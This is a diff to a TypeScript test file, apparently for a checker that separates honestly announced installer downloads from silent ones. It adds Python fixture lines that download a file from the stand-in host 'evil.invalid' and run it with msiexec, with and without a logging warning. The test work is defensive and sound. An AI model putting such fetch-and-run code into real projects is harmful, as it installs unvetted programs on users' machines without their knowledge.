@@ -42,6 +42,12 @@ const UPGRADE = (address: string): string[] => [
   `        file.write(requests.get("${address}").content)`,
   '    subprocess.call(["msiexec.exe", "/i", path])',
 ];
+const ANNOUNCED = [
+  'import logging, os, requests, subprocess',
+  'log = logging.getLogger(__name__)',
+  'def upgrade(folder):',
+  '    log.warning("Downloading the installer to %s", folder)',
+];
 const OWN_ADDRESS = [
   'import os, requests, socket',
   'with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:',
@@ -95,6 +101,18 @@ test.each<[what: string, path: string, honest: readonly string[], other: readonl
     'pkg/upgrade.py',
     UPGRADE('https://aka.ms/fixture'),
     UPGRADE('https://evil.invalid/fixture'),
+  ],
+  [
+    'a program that is fetched and started before the eyes of who called',
+    'pkg/upgrade.py',
+    [...ANNOUNCED, ...UPGRADE('https://evil.invalid/fixture').slice(2)],
+    UPGRADE('https://evil.invalid/fixture'),
+  ],
+  [
+    'which tells whoever called, and nobody who did not',
+    'pkg/upgrade.py',
+    [...ANNOUNCED, ...UPGRADE('https://evil.invalid/fixture').slice(2)],
+    [...ANNOUNCED, ...UPGRADE('https://evil.invalid/fixture').slice(2), 'upgrade("/tmp")'],
   ],
   [
     'and nothing else',
